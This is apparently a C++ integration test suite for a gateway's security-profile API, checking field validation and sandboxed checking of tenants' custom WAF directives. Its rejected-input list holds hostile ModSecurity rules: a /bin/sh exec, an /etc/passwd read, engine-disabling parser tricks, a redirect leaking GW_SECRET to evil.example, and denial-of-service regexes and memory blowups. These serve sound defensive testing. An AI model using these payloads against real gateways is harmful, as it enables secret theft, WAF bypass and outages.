// Gateway security profiles: defaults, every field, field rules, PUT as full replacement.
#include <signal.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <thread>

#include "integration/fixture.h"

namespace gw::itest::profiles_test {
namespace {

using testing::json_with;
using testing::json_without;
using testing::num;
using testing::parse_json;
using testing::str;
using testing::to_json;

const std::string kPath = "/v1/gateway_security_profile";

bool null_or_empty(const rapidjson::Value& v, std::string_view key) {
  if (!v.IsObject() || !v.HasMember(std::string(key))) return false;
  const rapidjson::Value& m = field(v, key);
  return m.IsNull() || (m.IsObject() && m.ObjectEmpty()) || (m.IsArray() && m.Empty());
}

TEST_CASE("profile create with only required fields fills in the defaults") {
  Server server;
  Api api(server, kTeamA);
  Response r = api.post(kPath, profile_body(kTeamA, "shop.example.com"));
  INFO(r.status, " ", r.body);
  REQUIRE(r.status == 201);
  rapidjson::Document p = json(r);
  CHECK(str(p, "profile_id").starts_with("gsp_"));
  CHECK(str(p, "team_id") == kTeamA);
  CHECK(str(p, "hostname") == "shop.example.com");
  for (const std::string flag : {"enabled", "force_https", "hsts_enabled", "cors_enabled"}) {
    CAPTURE(flag);
    CHECK(field(p, flag).IsTrue());
  }
  CHECK(str(p, "waf_mode") == "off");
  CHECK(str(p, "waf_template") == "workload_default");
  CHECK(num(p, "max_body_bytes") == 0);
  for (const std::string text :
       {"cors_headers", "cors_methods", "cors_origins", "waf_custom_directives"}) {
    CAPTURE(text);
    CHECK(field(p, text).IsString());
    CHECK(str(p, text) == "");
  }
  CHECK(null_or_empty(p, "geo_policy"));
  CHECK(null_or_empty(p, "waf_overrides"));
  CHECK(null_or_empty(p, "waf_rule_exclusions"));
}

TEST_CASE("profile create stores and returns every field") {
  Server server;
  Api api(server, kTeamA);
  const std::string body = R"({
    "team_id": "team_a", "hostname": "api.example.com",
    "enabled": false, "force_https": false, "hsts_enabled": false, "cors_enabled": true,
    "cors_headers": "Content-Type,X-Request-ID", "cors_methods": "GET,POST,OPTIONS",
    "cors_origins": "https://app.example.com,http://localhost:3000",
    "max_body_bytes": 2147483647,
    "geo_policy": {"mode": "block", "countries": ["RU", "KP"]},
    "waf_mode": "block", "waf_template": "custom",
    "waf_custom_directives": "SecRule ARGS \"@contains attack\" \"id:1001,phase:2,deny,status:403\"",
    "waf_overrides": {"rules": {"942100": false}, "paranoia_level": 2},
    "waf_rule_exclusions": [{"path_prefix": "/upload", "remove_rule_ids": [200002, 920420]}]
  })";
  Response r = api.post(kPath, body);
  INFO(r.status, " ", r.body);
  REQUIRE(r.status == 201);
  rapidjson::Document sent = parse_json(body);
  rapidjson::Document got = json(r);
  REQUIRE(got.IsObject());
  for (const auto& m : sent.GetObject()) {
    CAPTURE(m.name.GetString());
    CHECK(to_json(field(got, m.name.GetString())) == to_json(m.value));
  }
  Response again = api.get(kPath + "/" + str(got, "profile_id"));
  CHECK(json(again) == got);
}

TEST_CASE("profile 422 lists every missing required field") {
  Server server;
  Api api(server, kTeamA);
  Response r = api.post(kPath, R"({"team_id": "team_a"})");
  check_problem(r, 422, "validation_failed");
  auto fields = error_fields(r);
  for (const std::string f : {"hostname", "enabled", "force_https", "hsts_enabled", "cors_enabled",
                        "waf_mode", "waf_template"}) {
    CAPTURE(f);
    CHECK(has_field(fields, f));
  }
  Response no_team =
      api.post(kPath, json_without(profile_body(kTeamA, "a.example.com"), "team_id"));
  check_problem(no_team, 422, "validation_failed");
  CHECK(has_field(error_fields(no_team), "team_id"));
}

TEST_CASE("profile 422 lists every bad field at once, and nothing is stored") {
  Server server;
  Api api(server, kTeamA);
  const std::string body = R"({
    "team_id": "team_a", "hostname": "not a hostname",
    "enabled": "yes", "force_https": 1, "hsts_enabled": null, "cors_enabled": true,
    "cors_headers": "Bad Header", "cors_methods": "GET,FETCH", "cors_origins": "ftp//nope",
    "max_body_bytes": -1,
    "geo_policy": {"mode": "maybe", "countries": ["US"]},
    "waf_mode": "loud", "waf_template": "nope",
    "waf_overrides": [1, 2],
    "waf_rule_exclusions": [{"path_prefix": "upload", "remove_rule_ids": []}],
    "surprise": true
  })";
  Response r = api.post(kPath, body);
  check_problem(r, 422, "validation_failed");
  auto fields = error_fields(r);
  for (const std::string f : {"hostname", "enabled", "force_https", "hsts_enabled", "cors_headers",
                        "cors_methods", "cors_origins", "max_body_bytes", "geo_policy", "waf_mode",
                        "waf_template", "waf_overrides", "waf_rule_exclusions", "surprise"}) {
    CAPTURE(f);
    CHECK(has_field(fields, f));
  }
  CHECK_FALSE(has_field(fields, "cors_enabled"));
  CHECK_FALSE(has_field(fields, "team_id"));
  Response list = api.get(kPath);
  CHECK(num(field(json(list), "pagination"), "total") == 0);
}

// A number is stored in full (1e20 as 100000000000000000000.0, 23 bytes for 4), and arrays of
// waf_overrides had no bound: a body of 1 MiB made an event of 5 MB, past the Kafka mirror's
// producer limit of max(1000000, 2 x --max-request-bytes), which stalled the mirror for every
// tenant for good, and a list page of 100 such records was 500 MB (helpers 159 and 161).
TEST_CASE("waf_overrides numbers are bounded, so an event stays within the mirror's limit") {
  Server server;
  Api api(server, kTeamA);
  constexpr size_t kBodyLimit = 1 << 20;  // --max-request-bytes' default
  auto numbers = [](size_t n) {
    std::string out = "[";
    for (size_t i = 0; i < n; ++i) out += i ? ",1e20" : "1e20";
    return out + "]";
  };
  // Written out by hand: json_with writes numbers as RapidJSON does, in full.
  auto with_overrides = [](const std::string& hostname, const std::string& overrides) {
    std::string body = profile_body(kTeamA, hostname);
    body.pop_back();  // its closing brace
    return body + R"(,"waf_overrides":)" + overrides + "}";
  };
  const std::string many = with_overrides("many.example.com", R"({"a":)" + numbers(200000) + "}");
  REQUIRE(many.size() < kBodyLimit);
  Response refused = api.post(kPath, many);
  check_problem(refused, 422, "validation_failed");
  CHECK(has_field(error_fields(refused), "waf_overrides"));
  CHECK(refused.body.find("must hold at most 4096 numbers in all") != std::string::npos);
  CHECK(num(field(json(api.get(kPath)), "pagination"), "total") == 0);

  // The most numbers allowed, and a string filling the body to its limit.
  auto most = [&](size_t fill) {
    return with_overrides("most.example.com", R"({"a":)" + numbers(4096) + R"(,"s":")" +
                                                  std::string(fill, 'x') + "\"}");
  };
  const std::string body = most(kBodyLimit - 1 - most(0).size());
  REQUIRE(body.size() == kBodyLimit - 1);
  REQUIRE(api.post(kPath, body).status == 201);
  // The feed holds the event's stored bytes: its one event and a few bytes around it.
  Response feed = api.get("/v1/events");
  REQUIRE(feed.status == 200);
  REQUIRE(field(json(feed), "data").Size() == 1);
  CHECK(feed.body.size() < 2 * kBodyLimit);
}

TEST_CASE("profile field rules, one value at a time") {
  Server server;
  Api api(server, kTeamA);
  struct Case {
    std::string field;
    std::string value;
    bool ok;
  };
  const Case cases[] = {
      {"max_body_bytes", "0", true},
      {"max_body_bytes", "2147483648", false},
      {"max_body_bytes", "1.5", false},
      {"max_body_bytes", "1.0", false},  // an integer to JSON Schema, not to gatewayd (README)
      {"max_body_bytes", "1e2", false},
      {"max_body_bytes", "\"10\"", false},
      {"cors_origins", R"("*")", true},
      {"cors_origins", R"("*,https://a.example.com")", false},
      {"cors_origins", R"("https://a.example.com/path")", false},
      {"cors_origins", R"("http://[::1]:3000, https://[2001:db8::7]")", true},
      {"cors_origins", R"("https://[2001:DB8::7]")", false},
      {"cors_methods", R"("GET,HEAD,POST,PUT,PATCH,DELETE,OPTIONS")", true},
      {"cors_methods", R"("CONNECT")", false},
      {"geo_policy", "null", true},
      {"geo_policy", R"({"mode": "allow", "countries": ["US", "DE"]})", true},
      {"geo_policy", R"({"mode": "allow", "countries": []})", false},
      {"geo_policy", R"({"mode": "allow", "countries": ["US", "US"]})", false},
      {"geo_policy", R"({"mode": "allow", "countries": ["XX"]})", false},
      {"geo_policy", R"({"mode": "allow", "countries": ["usa"]})", false},
      {"waf_mode", R"("monitor")", true},
      {"waf_mode", R"("BLOCK")", false},
      {"waf_template", R"("api_strict")", true},
      {"waf_template", R"("wordpress")", true},
      {"waf_overrides", R"({"a": {"b": {"c": 1}}})", true},
      {"waf_overrides", R"({"a":{"b":{"c":{"d":{"e":{"f":{"g":{"h":{"i":1}}}}}}}}})", false},
      {"waf_rule_exclusions", R"([{"path_prefix": "/x", "remove_rule_ids": [0]}])", false},
      {"waf_rule_exclusions", R"([{"path_prefix": "/x", "remove_rule_ids": [100000000]}])", false},
      {"waf_rule_exclusions", R"([{"path_prefix": "/x", "remove_rule_ids": [99999999]}])", true},
      {"waf_custom_directives", R"("SecRule ARGS \"@rx x\" \"id:5,deny\"")", false},
  };
  int n = 0;
  for (const Case& c : cases) {
    CAPTURE(c.field);
    CAPTURE(c.value);
    std::string host = "rule" + std::to_string(n++) + ".example.com";
    Response r = api.post(kPath, json_with(profile_body(kTeamA, host), c.field, c.value));
    if (c.ok) {
      INFO(r.body);
      CHECK(r.status == 201);
    } else {
      check_problem(r, 422, "validation_failed");
      CHECK(has_field(error_fields(r), c.field));
    }
  }
}

// POST of a profile for `<label>.example.com` with waf_template custom and `directives` (a JSON
// string).
Response post_custom_waf(Api& api, const std::string& label, std::string_view directives) {
  std::string body =
      json_with(profile_body(api.team(), label + ".example.com"), "waf_template", R"("custom")");
  return api.post(kPath, json_with(body, "waf_custom_directives", directives));
}

TEST_CASE("profile WAF custom directives are parsed and confined to the tenant") {
  Server server;
  Api api(server, kTeamA);
  auto custom = [&](int n, std::string_view directives) {
    return post_custom_waf(api, "waf" + std::to_string(n), directives);
  };
  CHECK(custom(1, R"("SecRule REQUEST_URI \"@beginsWith /admin\" \"id:1000,phase:1,deny\"")")
            .status == 201);
  auto repeated = [](std::string_view one, int n) {
    std::string out;
    for (int i = 0; i < n; ++i) out += one;
    return out;
  };
  const std::string rejected[] = {
      R"("Include /etc/modsecurity/other.conf")",
      R"("SecRuleEngine Off")",
      R"("SecRule ARGS \"@contains x\" \"phase:2,deny\"")",
      R"("SecRule ARGS \"@contains x\" \"id:100000,phase:2,deny\"")",
      R"("SecRule ARGS \"@contains x\" \"id:7,deny\"\nSecRule ARGS \"@contains y\" \"id:7,deny\"")",
      R"("SecRule ARGS \"@pmFromFile /etc/passwd\" \"id:8,deny\"")",
      R"("SecRule ARGS \"@contains x\" \"id:9,phase:2,exec:/bin/sh\"")",
      R"("SecRule ARGS \"@contains x\" \"id:10,phase:1,ctl:ruleEngine=Off\"")",
      R"("SecAuditLog /tmp/audit.log")",
      R"("this is not a directive")",
      // An unquoted rev that the engine read on into a comment line the scan skipped (was 201).
      R"("SecRule ARGS \"@rx a\" \"id:11,pass,rev:1\"\n#,ctl:ruleEngine=Off\"")",
      // A msg ending in %, whose closing quote the engine read as part of the value, so a
      // removal of platform rules ran from a line the scan skipped as a comment (was 201).
      R"("SecRule ARGS \"@rx a\" \"id:12,pass,msg:100%\"\n#,pass\" SecRuleRemoveById 942100")",
      // Rule 13 follows the marker its update names, so the engine skipped every later rule,
      // the platform's included (was 201).
      R"("SecRuleUpdateActionById 13 \"skipAfter:END\"\nSecMarker END\n)"
      R"(SecRule ARGS \"@rx a\" \"id:13,phase:2,pass\"")",
      // skip:N counts the platform's rules after the tenant's (was 201).
      R"("SecRule ARGS \"@rx a\" \"id:14,phase:2,pass,skip:100\"")",
      // After "@rx" and a tab the engine dropped the text up to the next space, so the comment
      // line gave rule 15 a setvar on the collection all tenants share (was 201).
      R"("SecRule ARGS \"@rx\tz\"\t\"id:15,phase:2,pass,setvar:tx.blocked=1\"\n)"
      R"(#\t\"x y\"\t\"id:15,phase:2,pass,setvar:global.blocked=1\"")",
      // Two blanks before "@rx": the engine skipped them, the scan saw a regex and did not
      // check the operator, and the tab after it made a comment line rule 16's actions (was 201).
      R"("SecRule ARGS \"  @rx\tz\"\t\"id:16,phase:2,pass,setvar:tx.blocked=1\"\n)"
      R"(#\t\"x y\"\t\"id:16,phase:2,pass,setvar:global.blocked=1\"")",
      // A regex that does not compile: the engine loaded the rule, which never matched (was 201).
      R"("SecRule ARGS \"@rx (\" \"id:17,phase:2,deny\"")",
      // The engine read ENV glued to a variable's name: the redirect sent the gateway's
      // environment variable to the client (was 201).
      R"("SecRule ARGS \"@rx 1\" \"id:18,phase:1,redirect:https://evil.example/%{REMOTE_USERENV.GW_SECRET}\"")",
      // The same in a rule's variables: the environment variable became the regex (was 201).
      R"("SecRule REQUEST_LINEENV:GW_SECRET \"TOP\" \"id:19,phase:1,deny,status:403\"")",
      // A regex key the engine's lexer ended early, then ENV as a variable of its own (was 201).
      R"("SecRule ARGS:/a}/ENV:GW_SECRET \"TOP\" \"id:20,phase:1,deny\"")",
      // A regex key the engine read on over a comma, then ENV (was 201).
      R"("SecRule ARGS:/a,TX:/ENV:GW_SECRET \"TOP\" \"id:21,phase:1,deny,status:403\"")",
      // An update's unquoted regex key the engine read on over the line break into a comment
      // line, which gave the rule the target ENV:GW_SECRET (was 201).
      R"("SecRule ARGS \"@rx .\" \"id:22,phase:1,pass\"\nSecRuleUpdateTargetById 22 )"
      R"(ARGS:/a,TX\n#/|ENV:GW_SECRET #x")",
      // A regex key that does not compile, which the engine loaded and crashed on at the first
      // request reading the variable (was 201).
      R"("SecRule ARGS:/(/ \"@rx .\" \"id:23,phase:1,pass\"")",
      // The same with @verifySSN's regex, at the first value it checked (was 201).
      R"("SecRule ARGS \"@verifySSN (\" \"id:24,phase:1,pass\"")",
      // A regex the engine compiled from a client's argument at every request (was 201).
      R"("SecRule ARGS \"@rx %{ARGS.a}\" \"id:25,phase:2,deny\"")",
      // A regex in UTF-8 mode, which the engine's JIT matched without checking UTF-8: one
      // byte %FF from a client crashed the gateway (was 201).
      R"("SecRule ARGS \"@rx (*UTF)\\X+$\" \"id:40,phase:2,pass\"")",
      // A phrase of 14,000 bytes, 190 MB in the gateway that loads it (was 201).
      R"("SecRule ARGS \"@pm )" + std::string(14000, 'a') + R"(\" \"id:26,phase:2,deny\"")",
      // 65 recursions; 9,285 of them took 3 s to compile at every load of the text (was 201).
      R"("SecRule ARGS \"@rx a)" + repeated(R"(|\\S(?R))", 65) + R"(\" \"id:27,phase:2,deny\"")",
      // Three t:hexEncode; 27 took 17.8 s and 2 GB on any request (was 201).
      R"("SecRule REQUEST_METHOD \"@unconditionalMatch\" )"
      R"(\"id:28,phase:1,pass,t:hexEncode,t:hexEncode,t:hexEncode\"")",
      // @verifyCC, 17.4 s on a 320 KB argument (was 201).
      R"("SecRule ARGS \"@verifyCC \\d{13,16}\" \"id:29,phase:2,pass\"")",
      // An XPath key; this one took 50 s on an 888-byte XML body (was 201).
      R"("SecRule XML://*//*//*//*//* \"@rx z\" \"id:30,phase:2,pass\"")",
      // A setvar appending 3,000 bytes at each matched argument; with 60,000 bytes, 1,000
      // arguments took 69 s (was 201).
      R"("SecRule ARGS \"@unconditionalMatch\" \"id:31,phase:2,pass,nolog,setvar:tx.a=%{tx.a})" +
          std::string(3000, 'x') + R"(\"")",
      // A client's value kept once per argument: 64,000 bytes and 7,500 arguments, 499 MB
      // (was 201).
      R"("SecRule ARGS_NAMES \"@rx ^b\" )"
      R"(\"id:32,phase:2,pass,nolog,setvar:tx.%{MATCHED_VAR}=%{ARGS.a}\"")",
      // A copy of the body per variable read, named by a count: 500 reads of a 100 KB body,
      // 116 MB (was 201).
      R"("SecRule REQUEST_BODY|REQUEST_BODY \"@rx ^\" )"
      R"(\"id:33,phase:2,pass,nolog,setvar:tx.n=+1,setvar:tx.v%{tx.n}=%{MATCHED_VAR}\"")",
      // One phrase of 14,001 bytes the engine makes of `b` and 14,000 pipes, 206 MB (was 201).
      R"("SecRule ARGS \"@pm b)" + std::string(14000, '|') + R"(\" \"id:34,phase:2,deny\"")",
      // The same network 5,000 times: memory growing with the square of the repeats, lost at
      // every load (was 201).
      R"("SecRule REMOTE_ADDR \"@ipMatch ::/1)" + repeated(",::/1", 5000) +
          R"(\" \"id:35,phase:1,deny\"")",
      // 3 MB lost at every load for 10,916 of them in one rule (was 201).
      R"("SecRule ARGS \"@rx a\" \"id:36,phase:2,deny,msg:a,msg:b\"")",
      // A substring search whose parameter a client sends: time growing with the product of its
      // length and the value's, 2.5 s of the gateway's CPU for one 600 KB body (was 201).
      R"("SecRule ARGS:b \"@contains %{ARGS.a}\" \"id:39,phase:2,deny\"")",
      // 3.1 MB of JIT code from 62 KB compiled; counted only where the check's process can
      // JIT-compile as the gateway does (was 201).
      R"("SecRule ARGS \"@rx (*UTF)(*UCP)(?<=)" + repeated("\\\\w", 16) +
          R"(){1100}x\" \"id:37,phase:2,deny\"")",
  };
  int n = 2;
  for (const std::string& d : rejected) {
    CAPTURE(d);
    Response r = custom(n++, d);
    check_problem(r, 422, "validation_failed");
    CHECK(has_field(error_fields(r), "waf_custom_directives"));
  }
  // The last one is refused for its JIT code: the sandbox's worker JIT-compiles as the gateway
  // does, or the bound would count no machine code.
  Response jit = custom(n++, rejected[std::size(rejected) - 1]);
  CHECK(jit.body.find("JIT code included") != std::string::npos);
  // A hex block of 179 bytes of text, phrases of at most 60 bytes as the engine makes them: 0xAB
  // 60 times, then "ab" (was 422: the block counted as one phrase).
  Response hex = custom(
      n++, R"("SecRule ARGS \"@pm |)" + repeated("ab ", 59) + R"(ab|\" \"id:38,phase:2,deny\"")");
  CHECK_MESSAGE(hex.status == 201, hex.body);
  // Every answer above is the check's own: no worker crashed, none was killed by the sandbox's
  // seccomp filter (a system call a parse needs and the filter lacks would show here).
  CHECK_MESSAGE(server.output().find("waf sandbox:") == std::string::npos, server.output());
}

// The one-letter state of process `pid` in /proc ('Z' for a zombie), or 0 when it is gone.
char process_state(pid_t pid) {
  const std::vector<std::string> stat = testing::proc_stat(pid);
  return stat.empty() || stat[0].empty() ? 0 : stat[0][0];
}

// A killed zygote used to stay gone: every later profile write with directives to check was 503
// until gatewayd was restarted.
TEST_CASE("WAF directives are parsed in gatewayd's sandbox process, which is replaced if lost") {
  Server server;
  Api api(server, kTeamA);
  auto custom = [&](int n, std::string_view directives) {
    return post_custom_waf(api, "box" + std::to_string(n), directives);
  };
  const std::string rule = R"("SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"")";
  CHECK(custom(1, rule).status == 201);
  // gatewayd's only child is the sandbox's zygote, which starts a worker for every check.
  std::vector<pid_t> children = testing::children_of(server.pid());
  REQUIRE(children.size() == 1);
  const pid_t first = children[0];
  REQUIRE(::kill(first, SIGKILL) == 0);
  for (int i = 0; i < 500 && process_state(first) != 'Z' && process_state(first) != 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  Response r = custom(2, rule);
  INFO("server output: ", server.output());
  CHECK_MESSAGE(r.status == 201, r.body);
  CHECK(server
            .wait_for_line("gatewayd: sandbox: the zygote (pid " + std::to_string(first) +
                           ") was gone")
            .has_value());
  // The lost zygote is reaped, and its replacement checks as the first one did.
  children = testing::children_of(server.pid());
  REQUIRE(children.size() == 1);
  CHECK(children[0] != first);
  check_problem(custom(3, R"("this is not a directive")"), 422, "validation_failed");
  CHECK(custom(4, rule).status == 201);
  CHECK(num(field(json(api.get(kPath)), "pagination"), "total") == 3);
}

// A WAF check waits for the sandbox, up to its 10 s limit (15 s with a zygote that stopped
// answering). It ran on the HTTP thread that took the request, so every other connection of that
// thread, any tenant's, waited with it: with one HTTP thread, a GET was answered only once the
// check ended. Checks now run on threads of their own.
TEST_CASE("a WAF check that waits for the sandbox holds up no other request") {
  Server server({"--threads", "1"});
  const pid_t zygote = stop_zygote(server);
  const int fd = connect_to(server);
  REQUIRE(fd >= 0);
  send_until_read(server, fd, raw_post(server, kTeamA, kPath, custom_waf_body(kTeamA, "held")));

  Response list = Api(server, kTeamB).get(kPath);
  char byte = 0;
  const bool create_answered = ::recv(fd, &byte, 1, MSG_PEEK | MSG_DONTWAIT) > 0;
  REQUIRE(::kill(zygote, SIGCONT) == 0);
  CHECK(list.status == 200);
  CHECK_FALSE(create_answered);  // the GET was answered while the check waited
  CHECK(read_response(fd).starts_with("HTTP/1.1 201 "));
  ::close(fd);
}

// Checks wait for a check thread taking turns by tenant, and a tenant may have 16 waiting: the
// 17th is 429, while another tenant's still waits its turn.
TEST_CASE("a tenant may have 16 WAF checks waiting; one more is 429, others' still wait") {
  Server server({"--threads", "1"});  // one check thread
  const pid_t zygote = stop_zygote(server);
  std::vector<int> held;
  auto send_create = [&](std::string_view team, const std::string& label) {
    const int fd = connect_to(server);
    REQUIRE(fd >= 0);
    send_until_read(server, fd, raw_post(server, team, kPath, custom_waf_body(team, label)));
    held.push_back(fd);
  };
  send_create(kTeamA, "running");
  REQUIRE(metric_reaches(server, "gatewayd_waf_checks_running", 1));
  for (int i = 0; i < 16; ++i) send_create(kTeamA, "waiting" + std::to_string(i));
  REQUIRE(metric_reaches(server, "gatewayd_waf_checks_waiting", 16));

  Api team_a(server, kTeamA);
  Response refused = team_a.post(kPath, custom_waf_body(kTeamA, "refused"));
  check_problem(refused, 429, "rate_limited");
  CHECK(refused.header("retry-after") == "1");
  CHECK(metric(server, "gatewayd_waf_checks_refused_total") == 1);
  // A profile without directives needs no check: not held, not refused.
  CHECK(team_a.post(kPath, profile_body(kTeamA, "plain.example.com")).status == 201);
  send_create(kTeamB, "other");  // team_b's first: waits, not refused
  CHECK(metric(server, "gatewayd_waf_checks_waiting") == 17);

  REQUIRE(::kill(zygote, SIGCONT) == 0);
  for (int fd : held) {
    CHECK(read_response(fd).starts_with("HTTP/1.1 201 "));
    ::close(fd);
  }
  CHECK(metric(server, "gatewayd_waf_checks_waiting") == 0);
  CHECK(num(field(json(team_a.get(kPath)), "pagination"), "total") == 18);
  CHECK(num(field(json(Api(server, kTeamB).get(kPath)), "pagination"), "total") == 1);
}

// A repeat of a create kept under its Idempotency-Key waited for a check thread and the sandbox
// like a new body (and could be refused 429 when 16 waited), although the writer answers it with
// the kept answer without reading the body: with the sandbox stopped, the repeat got no answer
// within the client's 15 s. It is now answered at once; another request under the key still waits
// for its check, and is then refused.
TEST_CASE("a repeat of a create with WAF directives under its Idempotency-Key needs no check") {
  Server server({"--threads", "1"});
  Api api(server, kTeamA);
  const Headers key{{"Idempotency-Key", "waf-create-1"}};
  const std::string body = custom_waf_body(kTeamA, "kept");
  Response first = api.post(kPath, body, key);
  REQUIRE(first.status == 201);

  const pid_t zygote = stop_zygote(server);
  Response again = api.post(kPath, body, key);
  const double running = metric(server, "gatewayd_waf_checks_running");
  const int other = connect_to(server);
  REQUIRE(other >= 0);
  send_until_read(server, other,
                  raw_post(server, kTeamA, kPath, custom_waf_body(kTeamA, "other"),
                           "Idempotency-Key: waf-create-1\r\n"));
  const bool other_checked = metric_reaches(server, "gatewayd_waf_checks_running", 1);
  REQUIRE(::kill(zygote, SIGCONT) == 0);

  CHECK(again.status == 201);
  CHECK(again.body == first.body);
  CHECK(again.header("Idempotency-Replayed") == "true");
  CHECK(running == 0);
  CHECK(other_checked);
  const std::string reused = read_response(other);
  CHECK(reused.starts_with("HTTP/1.1 422 "));
  CHECK(reused.find("idempotency_key_reused") != std::string::npos);
  ::close(other);
  CHECK(num(field(json(api.get(kPath)), "pagination"), "total") == 1);
}

TEST_CASE("profile hostnames are normalized and must be real DNS names") {
  Server server;
  Api api(server, kTeamA);
  Response r = api.post(kPath, profile_body(kTeamA, "Shop.Example.COM."));
  INFO(r.body);
  REQUIRE(r.status == 201);
  CHECK(str(json(r), "hostname") == "shop.example.com");
  CHECK(api.post(kPath, profile_body(kTeamA, "xn--bcher-kva.example")).status == 201);
  const std::string bad[] = {"localhost", "192.168.1.10", "*.example.com", "-bad.example.com",
                             "a..example.com", "under_score.example.com", "exa mple.com", "",
                             // Not an A-label (invalid Punycode): was accepted.
                             "xn--zz.example.com"};
  for (const std::string& host : bad) {
    CAPTURE(host);
    Response b = api.post(kPath, profile_body(kTeamA, host));
    check_problem(b, 422, "validation_failed");
    CHECK(has_field(error_fields(b), "hostname"));
  }
  std::string label63(63, 'a');
  CHECK(api.post(kPath, profile_body(kTeamA, label63 + ".example.com")).status == 201);
  check_problem(api.post(kPath, profile_body(kTeamA, label63 + "a.example.com")), 422,
                "validation_failed");
}

// Any team could put a profile on a platform route (`app.run.platform.test`, WAF off, CORS `*`):
// gatewayd cannot tell which team a route serves, and the route's own team then got 409 and could
// not prove the name either (domains there are 422).
TEST_CASE("profile hostnames in the platform namespaces are 422, on create and on PUT") {
  Server server;
  Api api(server, kTeamA);
  for (const std::string host : {"platform.test", "app.platform.test", "run.platform.test",
                                 "victim-app.run.platform.test", "APP.Run.Platform.Test."}) {
    CAPTURE(host);
    Response r = api.post(kPath, profile_body(kTeamA, host));
    check_problem(r, 422, "validation_failed");
    CHECK(has_field(error_fields(r), "hostname"));
  }
  Response lookalike = api.post(kPath, profile_body(kTeamA, "notplatform.test"));
  REQUIRE(lookalike.status == 201);
  const std::string path = kPath + "/" + str(json(lookalike), "profile_id");
  check_problem(api.put(path, profile_body(kTeamA, "app.run.platform.test")), 422,
                "validation_failed");
  CHECK(str(json(api.get(path)), "hostname") == "notplatform.test");
}

TEST_CASE("profile PUT is a full replacement: omitted optional fields go back to defaults") {
  Server server;
  Api api(server, kTeamA);
  std::string full = json_with(profile_body(kTeamA, "full.example.com"), "cors_origins",
                               R"("https://a.example.com")");
  full = json_with(full, "max_body_bytes", "4096");
  full = json_with(full, "geo_policy", R"({"mode": "allow", "countries": ["US"]})");
  Response created = api.post(kPath, full);
  REQUIRE(created.status == 201);
  std::string id = str(json(created), "profile_id");
  Response put = api.put(kPath + "/" + id, profile_body(kTeamA, "full.example.com"));
  INFO(put.body);
  REQUIRE(put.status == 200);
  rapidjson::Document p = json(put);
  CHECK(str(p, "cors_origins") == "");
  CHECK(num(p, "max_body_bytes") == 0);
  CHECK(null_or_empty(p, "geo_policy"));

  Response missing =
      api.put(kPath + "/" + id, json_without(profile_body(kTeamA, "full.example.com"), "waf_mode"));
  check_problem(missing, 422, "validation_failed");
  CHECK(has_field(error_fields(missing), "waf_mode"));
  CHECK(json(api.get(kPath + "/" + id)) == p);
}

TEST_CASE("profile hostname may change on PUT to a free name, not to a taken one") {
  Server server;
  Api api(server, kTeamA);
  Response a = api.post(kPath, profile_body(kTeamA, "one.example.com"));
  Response b = api.post(kPath, profile_body(kTeamA, "two.example.com"));
  REQUIRE(a.status == 201);
  REQUIRE(b.status == 201);
  std::string id = str(json(a), "profile_id");
  check_problem(api.put(kPath + "/" + id, profile_body(kTeamA, "two.example.com")), 409,
                "hostname_conflict");
  Response moved = api.put(kPath + "/" + id, profile_body(kTeamA, "three.example.com"));
  INFO(moved.body);
  CHECK(moved.status == 200);
  CHECK(str(json(moved), "hostname") == "three.example.com");
  CHECK(api.post(kPath, profile_body(kTeamA, "one.example.com")).status == 201);
}

TEST_CASE("body Content-Type may carry parameters and any letter case") {
  Server server;
  Api api(server, kTeamA);
  Response r = api.send("POST", kPath, {{"Content-Type", "application/json; charset=utf-8"}},
                        profile_body(kTeamA, "charset.example.com"));
  INFO(r.body);
  CHECK(r.status == 201);
  Response upper = api.send("POST", kPath, {{"Content-Type", "Application/JSON"}},
                            profile_body(kTeamA, "upper.example.com"));
  INFO(upper.body);
  CHECK(upper.status == 201);
}

}  // namespace
}  // namespace gw::itest::profiles_test
